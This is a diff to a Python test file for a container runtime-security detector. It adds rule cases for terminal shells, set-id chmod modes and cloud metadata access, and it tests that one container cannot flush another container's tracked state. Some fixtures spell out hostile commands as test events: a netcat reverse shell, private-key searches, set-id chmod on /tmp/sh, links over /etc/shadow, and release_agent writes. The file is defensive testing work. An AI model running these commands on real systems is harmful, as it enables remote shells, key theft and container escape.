@@ -19,6 +19,13 @@ def rs():
 
 def ev(kind, name="busybox", args=None, pname="sh", exe=None, host=False, **kw):
     args = args or [name]
+    extra = {k[5:]: kw.pop(k) for k in list(kw) if k.startswith("proc_")}
+    e = _ev(kind, name, args, pname, exe, host, **kw)
+    e["proc"].update(extra)
+    return e
+
+
+def _ev(kind, name, args, pname, exe, host, **kw):
     return {"id": new_event_id("n1"), "ts": 1_700_000_000_000_000_000, "node": "n1", "kind": kind,
             "pid": 4242, "tid": 4242, "ppid": 4000, "uid": 0, "gid": 0, "comm": name[:15], "cgroup_id": 77,
             "proc": {"exe": exe or f"/bin/{name}", "args": args, "cmdline": " ".join(args), "name": name,
@@ -42,7 +49,8 @@ def dnsev(qname, qtype="A", direction="query", resolver_configured=True, **kw):
 O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC = 0, 1, 0o100, 0o1000
 
 CASES = [
-    ("Shell spawned in a container", execev(["sh", "-c", "id"], pname="nginx")),
+    ("Terminal shell in container", execev(["sh"], pname="bash", proc_tty=34816)),
+    ("Terminal shell in container", execev(["bash", "-i"], pname="python3", proc_tty=34817)),
     ("Netcat remote code execution", execev(["nc", "10.0.0.1", "4444", "-e", "/bin/sh"])),
     ("Search for private keys", execev(["find", "/", "-name", "id_rsa"])),
     ("Search for private keys", execev(["grep", "-r", "BEGIN PRIVATE", "/home"])),
@@ -74,6 +82,10 @@ CASES = [
     ("Create symlink over sensitive files", ev("symlink", name="ln", target="/etc/shadow", path="/tmp/s", ret=0)),
     ("Create hardlink over sensitive files", ev("link", name="ln", oldpath="/etc/passwd", newpath="/tmp/p", ret=0)),
     ("Set setuid or setgid bit", ev("chmod", name="chmod", path="/tmp/sh", mode=0o4755, ret=0)),
+    ("Set setuid or setgid bit", ev("chmod", name="chmod", path="/tmp/sh", mode=0o2755, ret=0)),   # setgid
+    ("Set setuid or setgid bit", ev("chmod", name="chmod", path="/tmp/sh", mode=0o104755, ret=0)),  # type bits
+    ("Set setuid or setgid bit", ev("chmod", name="x", path="/tmp/sh", mode=0o12755, ret=0)),  # junk above 07777
+    ("Set setuid or setgid bit", ev("chmod", name="x", path="/tmp/sh", mode=0o176000, ret=0)),
     ("Write to cgroup release_agent", ev("open", name="sh", path="/sys/fs/cgroup/rdma/release_agent",
                                          flags=O_WRONLY | O_TRUNC, mode=0, ret=3)),
     ("Packet socket created in container", ev("socket", name="x", family=17, type=3, protocol=768, ret=3)),
@@ -93,11 +105,18 @@ CASES = [
     ("Container process killed for memory (OOM)", ev("oom", name="hog", victim_pid=4242, victim_comm="hog",
                                                      victim_uid=0, total_vm_kb=40000, anon_rss_kb=32000,
                                                      file_rss_kb=100)),
+    ("Contact cloud metadata service", ev("connect", name="x", family=10, daddr="::ffff:169.254.169.254", dport=80,
+                                          saddr="::", sport=0, proto=6, ret=-101)),
+    ("Contact cloud metadata service", ev("connect", name="x", family=10, daddr="::ffff:a9fe:a9fe", dport=80,
+                                          proto=6, ret=-101)),
 ]
 
 QUIET = [
     execev(["sh", "-c", "ls /"], pname="runc"),            # a container's entrypoint shell
     execev(["sh", "-c", "ls /"], pname="conmon"),
+    execev(["sh", "-c", "run-parts /etc/periodic/15min"], pname="crond", proc_tty=0),  # cron job, no terminal
+    execev(["sh", "/app/healthcheck.sh"], pname="sh", proc_tty=0),
+    execev(["sh"], pname="bash", proc_tty=34816, host=True),   # a terminal shell on the host
     execev(["ls", "-l", "/"]), execev(["cat", "/etc/hostname"]), execev(["sleep", "1"]),
     execev(["nc", "-z", "localhost", "8080"]),             # a health check (nc -l now alerts: a listener)
     execev(["find", "/", "-name", "*.conf"]),
@@ -107,7 +126,9 @@ QUIET = [
     ev("open", name="sudo", path="/etc/shadow", flags=O_RDONLY, mode=0, ret=3, host=True),
     ev("open", name="sh", path="/var/log/app.log", flags=O_WRONLY | 0o2000, mode=0, ret=3),  # append
     ev("chmod", name="chmod", path="/tmp/x", mode=0o755, ret=0),
-    ev("chmod", name="chmod", path="/tmp/x", mode=0o2755, ret=0),  # setgid only
+    ev("chmod", name="chmod", path="/tmp/x", mode=0o1777, ret=0),  # sticky only
+    ev("chmod", name="chmod", path="/tmp/x", mode=0o100755, ret=0),  # type bits, no set-id
+    ev("connect", name="wget", family=10, daddr="::ffff:169.254.169.253", dport=80, proto=6, ret=0),
     ev("symlink", name="ln", target="/etc/hostname", path="/tmp/h", ret=0),
     ev("dup", name="sh", syscall="dup2", oldfd=3, newfd=1, fd_type="other", ret=1),
     ev("socket", name="x", family=2, type=3, protocol=1, ret=3, host=True),
@@ -161,8 +182,31 @@ def test_drop_and_execute_needs_the_create_in_the_same_container(rs):
     # bounded: old entries are forgotten
     for i in range(20):
         st.annotate(ev("open", name="sh", path=f"/tmp/f{i}", flags=O_CREAT | O_WRONLY, mode=0o644, ret=3))
-    assert len(st.created) == 8
+    assert st.created.count(CID) == 8 and st.evictions["created"] >= 12
     assert "Drop and execute new binary in container" not in rules(execev(["/tmp/drop.sh"]))
+    # ... but only by the container's own entries: the other container's create is still known
+    assert st.created.has("cd" * 32, "/tmp/other")
+
+
+def test_one_container_cannot_flush_another_containers_state(rs):
+    st = ExecState(size=64, containers=4)
+    victim = {**CTR, "id": "cd" * 32}
+    st.annotate({**ev("open", name="cp", path="/tmp/drop", flags=O_WRONLY | O_CREAT, mode=0o755, ret=3),
+                 "container": victim})
+    st.annotate({**ev("memfd", name="loader", flags=1, ret=3), "name": "p", "container": victim, "pid": 99})
+    for i in range(10_000):   # the noisy container creates and execs in a loop
+        st.annotate(ev("open", name="sh", path=f"/tmp/f{i}", flags=O_CREAT | O_WRONLY, mode=0o644, ret=3))
+        st.remember_exec(execev([f"/tmp/f{i}"]), set())
+    assert st.created.count(CID) == 64 and len(st.created) == 65
+    rules = lambda e: [m.rule for m in rs.evaluate(st.annotate(e))]  # noqa: E731
+    assert "Drop and execute new binary in container" in rules({**execev(["/tmp/drop"]), "container": victim})
+    assert "Fileless execution via memfd_create" in rules(
+        {**execev(["x"], filename="/dev/fd/3"), "container": victim, "pid": 99})
+    # the number of containers remembered is bounded too
+    for n in range(10):
+        st.annotate({**ev("open", name="sh", path="/tmp/y", flags=O_CREAT, mode=0o644, ret=3),
+                     "container": {**CTR, "id": f"{n:064x}"}})
+    assert len(st.created._t) == 4
 
 
 def test_memfd_then_exec_of_an_fd_is_fileless(rs):
